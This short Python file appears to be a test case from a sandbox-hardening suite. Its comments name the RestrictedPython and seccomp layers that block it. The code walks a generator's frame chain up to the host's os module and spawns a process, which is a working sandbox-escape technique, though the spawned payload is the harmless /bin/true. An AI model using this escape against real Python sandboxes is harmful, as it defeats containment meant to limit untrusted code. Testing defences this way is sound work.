# attack: generator/coroutine/traceback frames
# stops: restrictedpython: "gi_frame" is a restricted name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# a running generator's gi_frame.f_back: up the stack to the worker's own module and its os
def g():
    yield gen.gi_frame.f_back
gen = g()
for frame in gen:
    while frame is not None and "os" not in frame.f_globals:
        frame = frame.f_back
    print("ESCAPED", frame.f_globals["os"].posix_spawn("/bin/true", ["true"], {}))
